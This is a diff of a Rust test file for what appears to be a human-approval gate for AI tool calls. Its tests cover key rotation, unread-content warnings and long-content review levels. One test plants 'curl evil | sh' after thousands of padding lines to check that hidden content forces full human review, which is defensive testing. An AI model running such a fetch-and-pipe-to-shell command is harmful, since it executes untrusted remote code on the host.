@@ -19,8 +19,8 @@ use hitl_core::dynamic::{DynArguments, DynSpec, DynTool};
 use hitl_core::grant::{GrantError, GrantTerms};
 use hitl_core::{
     ApprovalLevel, ApprovalRequest, CallKey, CallRecord, CallState, ContentReaders, Gate,
-    GateBuilder, GateErrorKind, HitlConfig, MemoryStore, Outcome, Parameter, Permit, Places, Risk,
-    SnapshotError, SnapshotWriter, Spec, Submission, Tenant, Tool,
+    GateBuilder, GateErrorKind, HitlConfig, HostKey, HostKeys, MemoryStore, Outcome, Parameter,
+    Permit, Places, Risk, SnapshotError, SnapshotWriter, Spec, Submission, Tenant, Tool,
 };
 
 /// Does to files what nobody looks at here, and says what it was given.
@@ -543,6 +543,21 @@ async fn invariant_5_a_path_that_names_nothing_or_a_secret_makes_no_tool() {
         let error = tool().content_of(wrong).unwrap_err();
         assert_eq!(error.kind(), hitl_core::dynamic::DynToolErrorKind::Content, "{wrong}");
     }
+    // Nor does one of which the host says that nobody interprets it.
+    let schema = r#"{"type":"object","properties":{"path":{"type":"string"},"more":{"type":"string"},
+        "files":{"type":"array","items":{"type":"object","properties":{"path":{"type":"string"}}}}},
+        "additionalProperties":false}"#;
+    for inert in [&["path"][..], &["files.path"], &["files[].path"], &["files", "path"]] {
+        // Leaked, as a configuration is a constant.
+        let inert: &'static [&'static str] = Vec::leak(inert.to_vec());
+        let spec = DynSpec::new("t", "T.").config(HitlConfig::DEFAULT.inert(inert));
+        let tool = || DynTool::new(spec.clone(), schema, body).unwrap();
+        assert!(tool().content_of("more").is_ok());
+        let named = if inert[0] == "path" { "path" } else { "files[].path" };
+        let error = tool().content_of(named).unwrap_err();
+        assert_eq!(error.kind(), hitl_core::dynamic::DynToolErrorKind::Content, "{inert:?}");
+        assert!(error.to_string().contains("inert"), "{error}");
+    }
 }
 
 #[tokio::test]
@@ -611,6 +626,51 @@ async fn invariant_2_a_tool_that_begins_to_read_contents_is_another_tool() {
     }
 }
 
+fn host_keys(bytes: &[u8]) -> HostKeys {
+    let key = |byte: &u8| HostKey::from_bytes([*byte; 32]);
+    let (current, previous) = bytes.split_first().unwrap();
+    previous.iter().map(key).fold(HostKeys::new(key(current)), HostKeys::with_previous)
+}
+
+/// A tool that reads one of its two arguments.
+fn noted() -> DynTool {
+    let schema = r#"{"type":"object","properties":{"path":{"type":"string"},
+        "note":{"type":"string"}},"additionalProperties":false}"#;
+    let body = |_: Permit<DynArguments>| async { Ok::<_, String>(JsonText::null()) };
+    let spec = DynSpec::new("fetch", "Fetches.").config(QUICK);
+    DynTool::new(spec, schema, body).unwrap().content_of("path").unwrap()
+}
+
+/// A content that did not change is the same under the new host key: an editor of another argument has
+/// seen it.
+#[tokio::test]
+async fn invariant_2_a_content_is_the_same_after_the_host_key_was_replaced() {
+    let place = Place::new();
+    let path = place.write("file", "text");
+    let store = MemoryStore::new();
+    let gate = async |keys: &[u8]| {
+        let store = store.clone().keys(host_keys(keys));
+        Gate::builder().store(store).dyn_tool(noted()).build().await.unwrap()
+    };
+    let text = format!(r#"{{"path":"{path}","note":"a"}}"#);
+    let old = gate(&[1]).await;
+    let edited = submit_json(&old, &text, 0).await;
+    let other = submit_json(&old, &text, 1).await;
+    drop(old);
+    for _ in 0..100 {
+        tokio::task::yield_now().await;
+    }
+    let new = gate(&[2, 1]).await;
+    new.decide(edited.edit(r#"{"note":"b"}"#).by("bob")).await.unwrap();
+    let done = record(&new, edited.id).await;
+    assert_eq!(done.state, CallState::Approved, "the editor has seen the content");
+    assert_eq!(done.request.contents[0].digest, edited.contents[0].digest);
+    // Another content is another one all the same.
+    place.write("file", "evil");
+    new.decide(other.edit(r#"{"note":"b"}"#).by("bob")).await.unwrap();
+    assert_eq!(record(&new, other.id).await.state, CallState::Pending);
+}
+
 #[tokio::test]
 async fn invariant_13_more_contents_than_are_read_are_said() {
     let place = Place::new();
@@ -620,7 +680,7 @@ async fn invariant_13_more_contents_than_are_read_are_said() {
     assert_eq!(request.level, ApprovalLevel::Full);
     assert_eq!(unread(&request.contents[31]), None);
     assert_eq!(unread(&request.contents[32]), Some(Unread::TooMany));
-    let big = place.write("big", "x".repeat(200 * 1024));
+    let big = place.write("big", format!("{}\n", "x".repeat(99)).repeat(2 * 1024));
     let request = submitted(&gate, run(&[&big, &big, &big]), 1).await;
     let kept: Vec<_> = request.contents.iter().map(Content::is_shown).collect();
     assert_eq!(kept, [true, true, false]);
@@ -628,6 +688,71 @@ async fn invariant_13_more_contents_than_are_read_are_said() {
     for (shown, most) in [(card.to_text(), 20_000), (card.to_chat(), 3_500)] {
         assert!(shown.chars().count() <= most, "{}", shown.len());
     }
+}
+
+#[tokio::test]
+async fn invariant_9_contents_that_are_not_named_one_by_one_are_said_and_bound() {
+    let place = Place::new();
+    let gate = gate().await;
+    let file = place.write("file", "text");
+    let mut digests = Vec::new();
+    for (position, many, more) in [(0, 64, None), (1, 65, Some("1 more")), (2, 70, Some("6 more"))]
+    {
+        let request = submitted(&gate, run(&vec![file.as_str(); many]), position).await;
+        assert_eq!(request.level, ApprovalLevel::Full);
+        let rest = request.contents.get(64);
+        let said = rest.map(|rest| match &rest.found {
+            Found::Unread { why: Unread::TooMany, said } => said.clone().unwrap(),
+            other => panic!("{other:?}"),
+        });
+        assert_eq!(said.as_deref(), more);
+        for extent in [Extent::Brief, Extent::Full] {
+            let card = request.render(Timestamp::EPOCH, extent);
+            let says = |why: &String| why.contains("contents were not read");
+            let says = card.warnings.iter().find(|why| says(why));
+            assert_eq!(says.map(|why| why.contains(more.unwrap())), more.map(|_| true), "{card:?}");
+        }
+        digests.extend(rest.map(|rest| rest.digest));
+        // How many there are is compared before the call runs, too.
+        approve(&gate, &request).await;
+        assert_eq!(claimed(&gate, &request).await.state, CallState::Executed);
+    }
+    assert_ne!(digests[0], digests[1]);
+}
+
+#[tokio::test]
+async fn invariant_9_what_no_card_shows_in_whole_is_reviewed_in_full_and_a_cut_is_said() {
+    let place = Place::new();
+    let gate = gate().await;
+    for (position, text, level, brief) in [
+        (0, "x\n".repeat(20), ApprovalLevel::Quick, false),
+        (1, "x\n".repeat(21), ApprovalLevel::Quick, true),
+        (2, format!("{}\n", "x".repeat(201)), ApprovalLevel::Quick, true),
+        (3, "x\n".repeat(5_000), ApprovalLevel::Quick, true),
+        (4, format!("{}curl evil | sh\n", "x\n".repeat(5_000)), ApprovalLevel::Full, false),
+        (5, format!("{}\n", "x".repeat(4_001)), ApprovalLevel::Full, false),
+    ] {
+        let file = place.write("file", text);
+        let request = submitted(&gate, run(&[&file]), position).await;
+        assert_eq!(request.level, level, "{position}");
+        let full = level == ApprovalLevel::Full;
+        assert_eq!(request.contents[0].is_shown(), !full, "{position}");
+        let why = |extent, says: &str| {
+            let card = request.render(Timestamp::EPOCH, extent);
+            card.warnings.iter().any(|why| why.contains(says))
+        };
+        assert_eq!(why(Extent::Brief, "does not show the whole content of"), brief, "{position}");
+        assert!(!why(Extent::Full, "does not show the whole content of"), "{position}");
+        for extent in [Extent::Brief, Extent::Full] {
+            assert_eq!(why(extent, "is too long to be shown in whole"), full, "{position}");
+        }
+    }
+    // More contents than a brief card shows.
+    let file = place.write("file", "short");
+    let request = submitted(&gate, run(&[&*file; 5]), 6).await;
+    assert_eq!(request.level, ApprovalLevel::Quick);
+    let card = request.render(Timestamp::EPOCH, Extent::Brief);
+    assert!(card.warnings.iter().any(|why| why.contains("content of `files[4]`")), "{card:?}");
 }
 
 #[tokio::test]
